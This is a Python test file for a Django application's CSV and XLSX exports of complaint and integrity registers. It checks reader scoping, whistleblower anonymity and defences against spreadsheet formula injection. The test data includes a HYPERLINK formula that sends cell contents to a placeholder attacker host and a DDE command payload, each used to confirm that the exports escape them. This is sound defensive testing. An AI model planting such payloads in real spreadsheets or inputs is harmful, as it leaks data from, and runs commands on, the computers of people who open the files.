"""CSV/XLSX downloads of the complaint list and the integrity registers: scoped, no identity leaks, no formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import factories
from zi.integrity import services as integrity_services
from zi.organisations import sheets
from zi.organisations.models import Role
from zi.programme import services

WHISTLE_NAME = "Siti Pelapor Rahasia"
WHISTLE_CONTACT = "siti.rahasia@example.com"
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812 CMD", "-2+3", "@SUM(A1:A9)", "=1+1"]


def url(unit, kind, fmt=""):
    if kind == "pengaduan":
        address = reverse("programme:complaints_export", args=[unit.pk])
    else:
        address = reverse("integrity:export", args=[unit.pk, kind])
    return address + (f"?format={fmt}" if fmt else "")


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def registers(team, lapas, staff):
    services.complaint_create(
        actor=team,
        unit=lapas,
        channel="phone",
        category="pelayanan",
        subject="Antrean lama",
        description="Dua jam",
        complainant_name="Budi Pengadu",
        complainant_contact="0812-555-0101",
    )
    integrity_services.gratification_report_create(
        actor=team,
        unit=lapas,
        reporter=staff[0],
        offered_on=dt.date(2026, 3, 3),
        giver_description="Keluarga WBP",
        gift_description="Parsel",
        value_estimate="350000",
        refused=True,
    )
    integrity_services.conflict_create(
        actor=team, unit=lapas, declared_on=dt.date(2026, 2, 2), situation="Melayani kerabat"
    )
    integrity_services.whistle_submit_public(
        unit=lapas,
        subject="Dugaan pungli",
        description="Diminta uang",
        reporter_name=WHISTLE_NAME,
        reporter_contact=WHISTLE_CONTACT,
    )


def test_complaint_export_csv_and_xlsx_scoped_by_reader(client, team, reviewer, reviewer_kepri, lapas, registers):
    client.force_login(team)
    rows = read_csv(client.get(url(lapas, "pengaduan")))
    assert rows[0][0] == "Diterima" and "Kontak pengadu" in rows[0]
    assert len(rows) == 2 and "Antrean lama" in rows[1] and "0812-555-0101" in rows[1]
    sheet, values = read_xlsx(client.get(url(lapas, "pengaduan", "xlsx")))
    assert values[1][values[0].index("Pokok pengaduan")] == "Antrean lama"

    client.force_login(reviewer)  # reads the unit, does not follow complaints up: no complainant contact
    rows = read_csv(client.get(url(lapas, "pengaduan")))
    assert "Antrean lama" in rows[1]
    assert "Kontak pengadu" not in rows[0] and "0812-555-0101" not in str(rows) and "Budi Pengadu" not in str(rows)

    client.force_login(reviewer_kepri)
    assert client.get(url(lapas, "pengaduan")).status_code == 404
    client.logout()
    assert client.get(url(lapas, "pengaduan")).status_code == 302
    client.force_login(team)
    assert client.get(url(lapas, "tidak-ada")).status_code == 404


def test_whistle_identity_never_in_a_unit_visible_export(client, team, head, lapas, registers, tpi, agency):
    for user in (team, head):
        client.force_login(user)
        assert client.get(url(lapas, "wbs")).status_code == 404
        for kind in ("pengaduan", "gratifikasi", "benturan-kepentingan"):
            for fmt in ("", "xlsx"):
                response = client.get(url(lapas, kind, fmt))
                assert response.status_code == 200, (kind, fmt)
                body = b"".join(response.streaming_content) if response.streaming else response.content
                if fmt == "xlsx":
                    body = str(read_xlsx_bytes(body)).encode()
                assert WHISTLE_NAME.encode() not in body and WHISTLE_CONTACT.encode() not in body
                assert b"Dugaan pungli" not in body

    client.force_login(tpi)  # an integrity handler outside the unit sees the identity
    rows = read_csv(client.get(url(lapas, "wbs")))
    assert WHISTLE_NAME in rows[1] and WHISTLE_CONTACT in rows[1]

    insider = factories.make_user_with_role(Role.TPI_EVALUATOR, agency=agency, unit_id=lapas.pk)
    client.force_login(insider)  # a handler who is staff of the reported unit does not
    rows = read_csv(client.get(url(lapas, "wbs")))
    assert "Dugaan pungli" in rows[1]
    assert WHISTLE_NAME not in str(rows) and WHISTLE_CONTACT not in str(rows)
    _sheet, values = read_xlsx(client.get(url(lapas, "wbs", "xlsx")))
    assert WHISTLE_NAME not in str(values)


def read_xlsx_bytes(body):
    workbook = load_workbook(io.BytesIO(body))
    return [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]


def test_formula_injection_is_neutralised(client, team, lapas, staff):
    for text in INJECTIONS:
        services.complaint_submit_public(unit=lapas, category="lainnya", subject=text, description=text)
    integrity_services.conflict_create(
        actor=team, unit=lapas, declared_on=dt.date(2026, 2, 2), situation="=cmd|' /C calc'!A0", related_party="@x"
    )
    client.force_login(team)
    rows = read_csv(client.get(url(lapas, "pengaduan")))
    subjects = [row[rows[0].index("Pokok pengaduan")] for row in rows[1:]]
    assert sorted(subjects) == sorted("'" + text for text in INJECTIONS)
    sheet, values = read_xlsx(client.get(url(lapas, "pengaduan", "xlsx")))
    column = values[0].index("Pokok pengaduan")
    for row_index in range(2, len(values) + 1):
        cell = sheet.cell(row=row_index, column=column + 1)
        assert cell.data_type == "s" and cell.value.startswith("'")
    rows = read_csv(client.get(url(lapas, "benturan-kepentingan")))
    assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'@x"
    # ordinary text and numbers are left alone
    assert sheets.safe_cell("Antrean") == "Antrean" and sheets.safe_cell(-5) == -5
    assert sheets.safe_cell("\t=1+1") == "'\t=1+1" and sheets.safe_cell("\r=1") == "'\r=1"
